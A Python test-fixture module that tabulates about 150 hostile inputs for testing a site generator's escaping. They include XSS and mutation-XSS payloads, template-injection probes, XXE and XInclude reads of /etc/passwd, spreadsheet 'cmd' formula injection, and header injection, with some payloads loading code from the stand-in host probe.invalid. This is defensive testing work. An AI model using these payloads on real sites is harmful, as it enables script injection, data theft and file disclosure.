"""Hostile inputs as tables: what is tried (payloads), where it is put (contexts), and odd files.

`hit(…)` is what each script payload would call: the browser test defines it and fails when it is ever called.
`PROBE` is a host that no page may ask. Add a row for each new trick; the tests take every row in every context.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

PROBE = "probe.invalid"

# name → payload. The names say what the trick is.
PAYLOADS: dict[str, str] = {
    # scripts, plainly and in disguise
    "script": "<script>hit()</script>",
    "script-upper": "<SCRIPT>hit()</SCRIPT>",
    "script-src": f"<script src=//{PROBE}/x.js></script>",
    "script-slash": "<script/x>hit()</script>",
    "script-nested": "<scr<script>ipt>hit()</scr</script>ipt>",
    "script-unclosed": "<script>hit()",
    "script-null": "<scr\x00ipt>hit()</scr\x00ipt>",
    "script-in-title": "</title><script>hit()</script>",
    "script-in-script": "</script><script>hit()</script>",
    "script-comment": "<!--><script>hit()</script>-->",
    "script-cdata": "<![CDATA[<script>hit()</script>]]>",
    "script-pi": "<?xml version='1.0'?><script>hit()</script>",
    "script-entities": "&lt;script&gt;hit()&lt;/script&gt;",
    "script-numeric": "&#60;script&#62;hit()&#60;/script&#62;",
    "script-fullwidth": "＜script＞hit()＜/script＞",
    # handlers
    "img-onerror": "<img src=x onerror=hit()>",
    "img-backtick": "<img src=`x`onerror=hit()>",
    "img-slash": "<img/src=x/onerror=hit()>",
    "img-newline": "<img\nsrc=x\nonerror\n=\nhit()>",
    "body-onload": "<body onload=hit()>",
    "details": "<details open ontoggle=hit()><summary>s</summary></details>",
    "input-autofocus": "<input autofocus onfocus=hit()>",
    "marquee": "<marquee onstart=hit()>m</marquee>",
    "video-source": "<video><source onerror=hit()></video>",
    "audio-src": f"<audio src=https://{PROBE}/a.ogg autoplay onerror=hit()></audio>",
    "any-pointer": '<p onpointerenter="hit()" style="position:fixed;inset:0">cover</p>',
    "attribute-break-double": '" autofocus onfocus="hit()" x="',
    "attribute-break-single": "' autofocus onfocus='hit()' x='",
    "attribute-break-tag": '"><img src=x onerror=hit()>',
    # other name spaces and mutation tricks
    "svg-onload": "<svg onload=hit()></svg>",
    "svg-script": "<svg><script>hit()</script></svg>",
    "svg-animate": "<svg><animate onbegin=hit() attributeName=x dur=1s></svg>",
    "svg-use": f'<svg><use href="https://{PROBE}/x.svg#a"/></svg>',
    "svg-foreign": '<svg><foreignObject><iframe src="javascript:parent.hit()"></iframe></foreignObject></svg>',
    "math-href": '<math href="javascript:hit()">click</math>',
    "mathml-mutation": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hit()&gt;'>"
    ),
    "svg-mutation": "<svg></p><style><a id='</style><img src=1 onerror=hit()>'>",
    "noscript-mutation": '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
    "template": "<template><img src=x onerror=hit()></template>",
    "plaintext": "<plaintext><img src=x onerror=hit()>",
    "xmp": "<xmp><img src=x onerror=hit()></xmp>",
    # addresses
    "link-javascript": '<a href="javascript:hit()">here</a>',
    "link-javascript-case": '<a href="JaVaScRiPt:hit()">here</a>',
    "link-javascript-entity": '<a href="&#106;avascript&colon;hit()">here</a>',
    "link-javascript-tab": '<a href="java\tscript:hit()">here</a>',
    "link-javascript-space": '<a href=" &#1;javascript:hit()">here</a>',
    "link-data": '<a href="data:text/html,<script>hit()</script>">here</a>',
    "link-vbscript": '<a href="vbscript:hit()">here</a>',
    "link-file": '<a href="file:///etc/passwd">here</a>',
    "markdown-javascript": "[here](javascript:hit())",
    "markdown-javascript-case": "[here](JAVASCRIPT:hit())",
    "markdown-javascript-entity": "[here](javascript&#58;hit())",
    "markdown-data": "[here](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
    "markdown-image-break": '![alt" onerror="hit()](x "t" onerror="hit()")',
    "markdown-reference": "[here][1]\n\n[1]: javascript:hit()",
    "markdown-autolink": "<javascript:hit()>",
    "markdown-remote-image": f"![pixel](https://{PROBE}/pixel.png)",
    "markdown-attributes": "text {: onclick=hit() style=x }",
    "markdown-html-block": "<div markdown=1 onclick=hit()>\n*x*\n</div>",
    "html-remote-image": f"<img src='https://{PROBE}/pixel.png' alt='p'>",
    "html-scheme-relative": f"<img src=//{PROBE}/pixel.png alt=p>",
    "html-srcset": f"<img alt=p srcset='https://{PROBE}/pixel.png 2x'>",
    # embedding, forms, styles, document tricks
    "iframe-src": f"<iframe src=https://{PROBE}/></iframe>",
    "iframe-srcdoc": "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "object": f"<object data=https://{PROBE}/x.swf></object>",
    "embed": f"<embed src=https://{PROBE}/x>",
    "link-stylesheet": f"<link rel=stylesheet href=https://{PROBE}/x.css>",
    "link-prefetch": f"<link rel=prefetch href=https://{PROBE}/x>",
    "style-import": f"<style>@import 'https://{PROBE}/x.css'; *{{background:url(https://{PROBE}/y)}}</style>",
    "style-attribute": f"<p style='background:url(https://{PROBE}/y)'>p</p>",
    "base": f"<base href=https://{PROBE}/>",
    "meta-refresh": f'<meta http-equiv=refresh content="0;url=https://{PROBE}/">',
    "form": f"<form action=https://{PROBE}/><button>send</button></form>",
    "button-formaction": "<button formaction=javascript:hit()>x</button>",
    "portal": f"<portal src=https://{PROBE}/></portal>",
    "custom-element": "<x-y onclick=hit() is=z>c</x-y>",
    "dialog-id": '<p id="main" name="location">clobbered</p>',
    # templates: none of these may be computed
    "jinja-sum": "{{ 7*'7' }}",
    "jinja-class": "{{ ''.__class__.__mro__ }}",
    "jinja-block": "{% for x in range(9) %}X{% endfor %}",
    "jinja-include": "{% include '/etc/passwd' %}",
    "jinja-comment": "{# gone #}",
    "erb": "<%= 7*7 %>",
    "dollar": "${7*7}",
    # JSON blocks and feeds
    "json-close": '"}</script><script>hit()</script>',
    "json-comment": "<!--<script>hit()",
    "json-lines": "a\u2028hit()\u2029b",
    "cdata-close": "]]><script>hit()</script>",
    "xml-entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "spreadsheet": '=HYPERLINK("https://probe.invalid/";"x")',
    # characters that hide or turn
    "bidi": "safe \u202egnp.exe\u202c end",
    "zero-width": "pass\u200bword\u2060\ufeff",
    "tags": "plain\U000e0041\U000e0042 text",
    "control": "bell\x07 back\x08 escape\x1b[31m",
    # what browsers have learnt since
    "shadow-root": "<div><template shadowrootmode=open><img src=x onerror=hit()></template></div>",
    "speculation": f'<script type=speculationrules>{{"prefetch":[{{"urls":["https://{PROBE}/x"]}}]}}</script>',
    "import-map": f'<script type=importmap>{{"imports":{{"x":"https://{PROBE}/x.js"}}}}</script>',
    "module-preload": f"<link rel=modulepreload href=https://{PROBE}/x.js>",
    "dns-prefetch": f"<link rel=dns-prefetch href=//{PROBE}>",
    "popover": "<button popovertarget=p>x</button><div id=p popover onbeforetoggle=hit()>y</div>",
    "command": "<button commandfor=main command=show-modal>x</button>",
    "link-ping": f'<a href="https://outlet.example/" ping="https://{PROBE}/p">here</a>',
    "link-attribution": f'<a href="https://outlet.example/" attributionsrc="https://{PROBE}/a">here</a>',
    "img-attribution": f"<img alt=p attributionsrc=https://{PROBE}/a>",
    "fenced-frame": f"<fencedframe src=https://{PROBE}/></fencedframe>",
    "meta-policy": '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "clobber-form": "<form id=document><input name=cookie><input name=querySelector></form>",
    "clobber-image": "<img name=getElementById alt=x><img id=copydesk name=copydesk alt=x>",
    "select-content": "<select><selectedcontent><img src=x onerror=hit()></selectedcontent></select>",
    "animation-end": "<p style='animation:x 1s' onanimationend=hit()>p</p>",
    "content-visibility": '<p style="content-visibility:auto" oncontentvisibilityautostatechange=hit()>p</p>',
    "scroll-end": "<p onscrollsnapchange=hit() onscrollend=hit()>p</p>",
    "annotation": '<math><annotation-xml encoding="text/html"><img src=x onerror=hit()></annotation-xml></math>',
    "svg-set": "<svg><a><set attributeName=href to=javascript:hit() /><text>x</text></a></svg>",
    # letters that fold to others, and bytes that another set reads as markup
    "long-s": "<\u017fcript>hit()</\u017fcript>",
    "kelvin": "<lin\u212a rel=stylesheet href=//probe.invalid/x.css>",
    "dotless-i": "<\u0131frame src=javascript:hit()></\u0131frame>",
    "utf7": "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "escape-sequence": "\x1b(B<script>hit()</script>\x1b$B",
    "small-signs": "\ufe64script\ufe65hit()\ufe64/script\ufe65",
    "isolates": "safe \u2067\u2066txt.exe\u2069\u2069 end",
    "variation": "A\ufe0f\U000e0100B",
    "combining-slash": "<\u0338script>hit()</script>",
    # Markdown's own ways
    "markdown-footnote": "text[^x]\n\n[^x]: <img src=x onerror=hit()> [here](javascript:hit())",
    "markdown-footnote-break": '[^"onclick=hit()]\n\n[^"onclick=hit()]: note',
    "markdown-title-break": "[here](https://outlet.example/ 'x\" onclick=\"hit()')",
    "markdown-angle-link": "[here](<java\nscript:hit()>)",
    "markdown-nested": "[![a](javascript:hit())](javascript:hit())",
    "markdown-image-link": "![here](javascript:hit())",
    "markdown-table": "a | b\n--|--\n<img src=x onerror=hit()> | [here](javascript:hit())",
    "markdown-code-fence": '```js" onclick="hit()\n<script>hit()</script>\n```',
    "markdown-heading-id": '## Main {#" onclick="hit()}',
    "markdown-autolink-handler": '<https://outlet.example/"onmouseover="hit()>',
    "markdown-label": "[a](javascript:hit()\n\n[a]: data:text/html,x",
    "markdown-stash": "\x02klzzwxh:0000\x03 \x02amp\x03",
    "markdown-mark": "\ue0000\ue001",
    # other programs that read what is published
    "jinja-line": "# for x in ().__class__.__mro__",
    "jinja-format": "{{ '%s'|format(cycler.__init__.__globals__) }}",
    "python-format": "{0.__class__.__mro__} %(title)s %n",
    "liquid": "{{ 'x' | append: site.data }}",
    "header": "x\r\nBcc: a@e.example\r\n\r\n<script>hit()</script>",
    "calendar": "x\nEND:VEVENT\nATTACH:https://probe.invalid/",
    "spreadsheet-plus": "+cmd|' /C calc'!A0",
    "spreadsheet-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "xml-processing": "<?xml-stylesheet href='https://probe.invalid/x.xsl'?>",
    "xinclude": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>',
    "feed-markup": "&amp;lt;img src=x onerror=hit()&amp;gt;",
    "json-slash": "<\\/script><\\u0073cript>hit()",
    "proto": "__proto__",
    "lone-amp": "&lt&gt&quot&#x3c;script&#x3e;hit()",
}  # fmt: skip


@dataclass(frozen=True, slots=True, kw_only=True)
class Context:
    """A place to put a payload. `make` gives the files of a digest for one payload and a case's name."""

    name: str
    make: Callable[[str, str], dict[str, str]]


def quoted(text: str) -> str:
    """Text as a double-quoted YAML scalar, all that is not plain ASCII escaped: the value arrives as it is."""
    plain = text.replace("\\", "\\\\").replace('"', '\\"')
    return '"' + "".join(c if " " <= c <= "~" else f"\\U{ord(c):08X}" for c in plain) + '"'


def _front(name: str, field: str, body: str = "A paragraph.") -> dict[str, str]:
    title = "" if field.startswith("title:") else f"title: Case {name}\n"
    text = f"---\n{title}date: 2020-07-02\nslug: {name}\n{field}\n---\n\n{body}\n"
    return {f"content/articles/2020/{name}.md": text}


def _field(template: str) -> Callable[[str, str], dict[str, str]]:
    """PAYLOAD is the payload; NAMED is one that no other case has, for what gets a page of its own."""

    def make(payload: str, name: str) -> dict[str, str]:
        return _front(name, template.replace("PAYLOAD", quoted(payload)).replace("NAMED", quoted(f"{name} {payload}")))

    return make


def in_body(payload: str) -> str:
    """A Markdown body with the payload within a line, as a block, in a list and in a quotation."""
    return f"Before it. {payload} After it.\n\n{payload}\n\n- {payload}\n\n> {payload}"


def everything(payload: str, name: str) -> dict[str, str]:
    """One article with the payload in all of its fields at once, for the browser."""
    fields = (
        "title: PAYLOAD\nsubtitle: PAYLOAD\ndescription: PAYLOAD\nsummary: PAYLOAD\ntopics: [NAMED]\nplace: PAYLOAD\n"
        "people:\n  - name: NAMED\n    role: PAYLOAD\n    quotes: [PAYLOAD]\nauthors: [PAYLOAD]\n"
        "image_caption: PAYLOAD\nsource:\n  name: NAMED\n  authors: [PAYLOAD]\n"
        "corrections:\n  - date: 2020-07-03\n    text: PAYLOAD"
    )
    text = _field(fields)(payload, name)[f"content/articles/2020/{name}.md"]
    return {f"content/articles/2020/{name}.md": text.replace("A paragraph.", in_body(payload))}


# What a contributor or an earlier program may have put into content files (attackers A1 and A3).
CONTENT_CONTEXTS: tuple[Context, ...] = (
    Context(name="title", make=_field("title: PAYLOAD")),
    Context(name="subtitle", make=_field("subtitle: PAYLOAD")),
    Context(name="description", make=_field("description: PAYLOAD")),
    Context(name="summary", make=_field("summary: PAYLOAD\npolicy: summary")),
    Context(name="person", make=_field("people:\n  - name: NAMED\n    role: PAYLOAD")),
    Context(name="quote", make=_field("people:\n  - name: Ada Quoted\n    quotes: [PAYLOAD]")),
    Context(name="topic", make=_field("topics: [NAMED]")),
    Context(name="source", make=_field("source:\n  name: NAMED\n  authors: [PAYLOAD]")),
    Context(name="caption", make=_field("image_caption: PAYLOAD\nimage_alt: PAYLOAD\nimage_credit: PAYLOAD")),
    Context(name="place", make=_field("place: PAYLOAD\nauthors: [PAYLOAD]")),
    Context(name="correction", make=_field("corrections:\n  - date: 2020-07-03\n    text: PAYLOAD")),
    Context(name="body", make=lambda p, n: _front(n, "lang: en", body=in_body(p))),
)

_FILLER = """\
The harbour office said on Thursday that the ferries would run again from the first week of July, after three months \
in which only freight had been let across the strait.
Two of the five boats have been repainted. The others wait for parts that a yard in the north is to deliver before \
the end of the month, the office added.
Passengers will have to register a day ahead, and the islands keep the right to close their piers at any time.
""".splitlines()


def raw_text(payload: str, name: str) -> str:
    """A plain-text article with the payload as a line of its own, within one, and at an end."""
    lines = [f"Ferries return to the strait, case {name}", "By Ines Calloway", *_FILLER[:2]]
    lines += [
        f"An onlooker had written on the pier: {payload} and nobody knew why.",
        f"{payload} stood there too.",
        _FILLER[2],
    ]
    return "\n\n".join(lines) + "\n"


def raw_html(payload: str, name: str) -> str:
    """A saved page with the payload as markup: in the head, a headline, a paragraph, attributes and JSON-LD."""
    attribute = payload.replace("&", "&amp;").replace('"', "&quot;")
    paragraphs = "".join(f"<p>{text}</p>\n" for text in _FILLER)
    return f"""<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Ferries, case {name}</title>
<meta name="author" content="{attribute}"><meta name="description" content="{attribute}">
</head><body><article><h1>Ferries return, case {name}</h1>
{paragraphs}<p>An onlooker had written on the pier: {payload} and nobody of the office could say in the evening why.</p>
<figure><img src="{attribute}" alt="{attribute}"><figcaption>{payload}</figcaption></figure>
<p>There was <a href="{attribute}" title="{attribute}">a link that a fisherman had painted there</a> in white.</p>
<blockquote>{payload}</blockquote>
{paragraphs}</article></body></html>
"""
